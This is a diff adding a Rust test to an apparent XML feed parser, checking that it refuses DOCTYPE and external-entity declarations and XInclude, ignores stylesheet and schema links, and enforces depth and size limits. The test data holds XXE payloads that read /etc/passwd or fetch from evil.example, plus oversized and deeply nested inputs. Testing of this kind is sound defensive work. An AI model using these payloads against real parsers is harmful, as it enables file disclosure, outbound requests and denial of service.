@@ -66,6 +66,75 @@ fn document_types_and_entities() {
     assert_eq!(five.unwrap()[0].id, "<>&'\"AB");
 }
 
+/// What makes other readers fetch, include or swell: refused, or read as what it is and no more.
+#[test]
+fn nothing_is_included_and_nothing_grows() {
+    let refused_as = |text: &str, wanted: fn(&ReadErrorKind) -> bool| {
+        let error = refused(text);
+        assert!(wanted(&error.kind), "{error}");
+    };
+    let many = |one: fn(u32) -> String| (0..10_000).map(one).collect::<String>();
+    let is_doctype: fn(&ReadErrorKind) -> bool = |kind| matches!(kind, ReadErrorKind::DocumentType);
+    for dtd in [
+        r#"<!DOCTYPE feed SYSTEM "http://evil.example/x.dtd">"#,
+        r#"<!DOCTYPE feed PUBLIC "-//X//Y" "http://evil.example/x.dtd">"#,
+        r#"<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>"#,
+        r#"<!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
+        r#"<!DOCTYPE feed [<!ATTLIST feed a CDATA "default">]>"#,
+        "<!DOCTYPE feed>",
+    ] {
+        refused_as(&format!("{dtd}{}", feed("")), is_doctype);
+    }
+    // Names of files and addresses are names, and nobody follows them.
+    let include = r#"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>"#;
+    for text in [
+        feed(include),
+        feed(&format!("<entry><id>1</id>{include}</entry>")),
+        format!(
+            r#"<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>{}"#,
+            feed("")
+        ),
+        feed(
+            r#"<entry xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://evil.example/x.xsd"><id>1</id></entry>"#,
+        ),
+    ] {
+        let read = entries(text.as_bytes()).unwrap_or_default();
+        assert!(
+            read.iter()
+                .all(|entry| !format!("{entry:?}").contains("root:")),
+            "{text}"
+        );
+    }
+    let limit = |text: &str| match refused(text).kind {
+        ReadErrorKind::Limit { limit, .. } => limit,
+        other => panic!("{other}"),
+    };
+    assert_eq!(limit(&feed(&"<x>".repeat(100_000))), Limit::Depth);
+    let spaces = many(|nr| format!(" xmlns:n{nr}='u{nr}'"));
+    assert!(matches!(
+        limit(&feed(&format!("<x{spaces}/>"))),
+        Limit::Attributes | Limit::TokenBytes
+    ));
+    let attributes = many(|nr| format!(" a{nr}=''"));
+    assert!(matches!(
+        limit(&feed(&format!("<x{attributes}/>"))),
+        Limit::Attributes | Limit::TokenBytes
+    ));
+    let huge = "x".repeat(64 * 1024 * 1024);
+    assert_eq!(limit(&feed(&format!("<x a='{huge}'/>"))), Limit::TokenBytes);
+    assert_eq!(limit(&feed(&format!("<x>{huge}</x>"))), Limit::TokenBytes);
+    assert_eq!(limit(&feed(&format!("<{huge}/>"))), Limit::TokenBytes);
+    // Many namespaces, one inside the other: each is cheap, and there are only so many.
+    let nested = many(|nr| format!("<n{nr}:x xmlns:n{nr}='u{nr}'>"));
+    assert_eq!(limit(&feed(&nested)), Limit::Depth);
+    // XML in XML is text.
+    let inner = "<entry><id>&lt;!DOCTYPE x [&lt;!ENTITY a 'b'&gt;]&gt;&amp;a;</id></entry>";
+    assert_eq!(
+        entries(feed(inner).as_bytes()).unwrap()[0].id,
+        "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;"
+    );
+}
+
 #[test]
 fn prefixes_must_be_declared_wherever_they_stand() {
     for text in [
